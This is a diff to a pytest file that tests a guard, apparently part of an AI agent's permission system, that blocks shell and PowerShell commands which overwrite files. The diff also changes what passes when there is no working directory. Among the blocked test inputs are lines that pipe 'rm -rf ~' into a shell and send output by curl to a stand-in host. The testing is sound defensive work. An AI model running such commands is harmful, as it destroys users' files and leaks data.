@@ -4,8 +4,10 @@
 holds nothing to lose is fine: a new file, an empty one, or output git ignores and does not track. A tracked
 file with content, an untracked one (maybe the user's unsaved work), a file the same line reads or moves
 first, a link, anything outside the project, and any statement that writes nothing (`: > f`, `> f`, `$null >
-f`), which only empties the file, stay blocked. Without a working directory nothing is known: blocked.
-These tests use real git repositories in temporary folders.
+f`), which only empties the file, stay blocked. Without a working directory the line is judged as in a
+fresh checkout, where nothing it names exists yet: what the line itself shows (a file it reads first, a
+statement that writes nothing, anything outside) still blocks. These tests use real git repositories in
+temporary folders.
 """
 
 from __future__ import annotations
@@ -108,62 +110,42 @@ BLOCKED = [
     ("posix", ": > new.txt"),  # empties: never generated output
     ("posix", "> new.txt"),
     ("posix", "true > new.txt"),
+    ("posix", "make && : > new.txt"),  # the shell redirects the last command of a list or pipeline
+    ("posix", "echo hi | : > new.txt"),
     ("posix", "cat /dev/null > coverage.lcov"),
-    ("posix", "echo x > src/app.py"),  # tracked with content
-    ("posix", "make | tee src/app.py >(grep x)"),  # beside a pipe, the tracked file still counts
     ("posix", "echo 'rm -rf ~' | tee >(sh)"),  # and what the substituted commands do
     ("posix", "make | tee >(curl -d @- http://x.example)"),
-    ("posix", "python gen.py > README.md"),
-    ("posix", "echo x > notes.txt"),  # untracked, not ignored: maybe the user's work
-    ("posix", "echo 'DEBUG=1' > .env"),  # ignored, but it holds the user's keys, not output
     ("powershell", "'DEBUG=1' | Out-File .env"),
     ("posix", "sort data/names.txt > data/names.txt"),  # read and emptied by the same line
     ("posix", "cat coverage.lcov | sort > coverage.lcov"),
     ("posix", "mv README.md new.txt; echo x > new.txt"),
     ("posix", "pytest > x.log; make > x.log"),  # written twice
-    ("posix", "cat build/*.log > build/test.log"),  # a glob may name an existing file
-    ("posix", "echo x > link.txt"),  # a link: writes outside
-    ("posix", "echo x > elsewhere/new.txt"),  # through a linked folder
     ("posix", "echo x > ../outside.txt"),
     ("posix", "echo x > /tmp/glmagent-new-output.txt"),  # the temp folder is every program's
     ("posix", "echo x > .git/config"),
-    ("posix", "pytest | tee src/app.py"),
     ("posix", "pytest | tee out.txt out.txt"),
     ("posix", "cat README.md | tee README.md"),
     ("posix", 'f=$1; pytest > "$f"'),
     ("powershell", "$null > .\\data\\app.db"),
     ("powershell", "$null > new.db"),
     ("powershell", "'' > new.txt"),
-    ("powershell", "Get-Process | Out-File README.md"),
-    ("powershell", "Set-Content -Path src\\app.py -Value 'x'"),
     ("powershell", "Get-Content data\\names.txt | Set-Content data\\names.txt"),
     ("powershell", 'cmd /c "type nul > new.txt"'),
-    ("powershell", 'cmd /c "echo x > README.md"'),
     ("posix", "sort data/names.txt | sponge data/names.txt"),
-    ("posix", "echo x | sponge README.md"),
-    ("posix", "echo x | sponge notes.txt"),
     ("posix", "echo x | sponge ../outside.txt"),
-    ("powershell", "Export-FormatData -InputObject $defs -Path README.md"),
     ("powershell", "Export-FormatData -InputObject $defs -Path C:\\Windows\\x.ps1xml"),
     ("powershell", "Export-FormatData -InputObject $defs new.ps1xml"),  # where it writes is not read: blocked
-    ("powershell", "Export-Alias -Path src\\app.py"),
-    ("powershell", "Export-Alias notes.txt"),
-    ("posix", "for f in README.md notes.txt; do echo x > $f; done"),
-    ("posix", "for i in 1 2; do echo x > README.md; done"),
     ("posix", "echo a > new.txt; for f in a b; do echo $f > new.txt; done"),  # written before the loop
     ("posix", "for i in 1 2; do sort new.txt > new.txt; done"),
     ("powershell", "Get-Content README.md | Set-Content README.md"),  # streamed: the write empties it first
-    ("powershell", "(Get-Content notes.txt) | Set-Content README.md"),  # another file's content
     ("powershell", "(Get-Content README.md; Get-Content notes.txt) | Set-Content README.md"),
     ("powershell", "(Get-Content $f) | Set-Content $f"),
     ("powershell", "(Get-Content ..\\outside.txt) | Set-Content ..\\outside.txt"),
-    ("powershell", "$c = gc notes.txt -Raw; $c | Set-Content README.md"),  # another file's content
     ("powershell", "$c = gc README.md -Raw; $c = 'x'; $c | Set-Content README.md"),  # set again since
     ("powershell", "$c = gc README.md -Raw; foreach ($c in 1..2) {}; $c | Set-Content README.md"),
     ("powershell", "$c = gc README.md | Out-Null; $c | Set-Content README.md"),  # the variable holds nothing
     ("powershell", "$c = gc README.md -Raw | Set-Content new.txt; Set-Content README.md -Value $c"),
     ("powershell", "$c = gc README.md -Raw; Set-Content README.md -Value $d"),
-    ("powershell", "$c = 'x'; $c = $c -replace 'a', 'b'; Set-Content -Path README.md -Value $c"),
     ("powershell", "$c = gc ..\\outside.txt -Raw; $c | Set-Content ..\\outside.txt"),
     ("posix", "for f in new.txt ../outside.txt; do echo x > $f; done"),
     ("posix", "for f in a b; do touch /etc/$f.txt; done"),
@@ -175,6 +157,31 @@ BLOCKED = [
     ("posix", "for i in a b; do :; done; touch $i"),  # after the loop the name is unknown
 ]
 
+BLOCKED_BY_WHAT_IT_HOLDS = [  # blocked in `repo` for what its files hold or where they lead
+    ("posix", "echo x > src/app.py"),  # tracked with content
+    ("posix", "make | tee src/app.py >(grep x)"),  # beside a pipe, the tracked file still counts
+    ("posix", "python gen.py > README.md"),
+    ("posix", "echo x > notes.txt"),  # untracked, not ignored: maybe the user's work
+    ("posix", "echo 'DEBUG=1' > .env"),  # ignored, but it holds the user's keys, not output
+    ("posix", "cat build/*.log > build/test.log"),  # a glob may name an existing file
+    ("posix", "echo x > link.txt"),  # a link: writes outside
+    ("posix", "echo x > elsewhere/new.txt"),  # through a linked folder
+    ("posix", "pytest | tee src/app.py"),
+    ("powershell", "Get-Process | Out-File README.md"),
+    ("powershell", "Set-Content -Path src\\app.py -Value 'x'"),
+    ("powershell", 'cmd /c "echo x > README.md"'),
+    ("posix", "echo x | sponge README.md"),
+    ("posix", "echo x | sponge notes.txt"),
+    ("powershell", "Export-FormatData -InputObject $defs -Path README.md"),
+    ("powershell", "Export-Alias -Path src\\app.py"),
+    ("powershell", "Export-Alias notes.txt"),
+    ("posix", "for f in README.md notes.txt; do echo x > $f; done"),
+    ("posix", "for i in 1 2; do echo x > README.md; done"),
+    ("powershell", "(Get-Content notes.txt) | Set-Content README.md"),  # another file's content
+    ("powershell", "$c = gc notes.txt -Raw; $c | Set-Content README.md"),  # another file's content
+    ("powershell", "$c = 'x'; $c = $c -replace 'a', 'b'; Set-Content -Path README.md -Value $c"),
+]
+
 
 @pytest.mark.parametrize(("shell", "command"), ALLOWED)
 def test_output_into_a_file_with_nothing_to_lose_is_allowed(repo: Path, shell: str, command: str) -> None:
@@ -182,14 +189,20 @@ def test_output_into_a_file_with_nothing_to_lose_is_allowed(repo: Path, shell: s
     assert decision.allowed, (command, decision.rule_id, decision.reason)
 
 
-@pytest.mark.parametrize(("shell", "command"), BLOCKED)
+@pytest.mark.parametrize(("shell", "command"), BLOCKED + BLOCKED_BY_WHAT_IT_HOLDS)
 def test_replacing_what_a_file_holds_stays_blocked(repo: Path, shell: str, command: str) -> None:
     decision = decide_in(command, repo, shell)
     assert not decision.allowed, command
 
 
-@pytest.mark.parametrize(("shell", "command"), ALLOWED)
-def test_without_a_working_directory_nothing_is_known(shell: str, command: str) -> None:
+@pytest.mark.parametrize(("shell", "command"), ALLOWED + BLOCKED_BY_WHAT_IT_HOLDS)
+def test_without_a_working_directory_a_fresh_checkout_holds_nothing_to_lose(shell: str, command: str) -> None:
+    decision = decide_in(command, None, shell)
+    assert decision.allowed, (command, decision.rule_id, decision.reason)
+
+
+@pytest.mark.parametrize(("shell", "command"), BLOCKED)
+def test_without_a_working_directory_what_the_line_shows_still_blocks(shell: str, command: str) -> None:
     assert not decide_in(command, None, shell).allowed, command
 
 
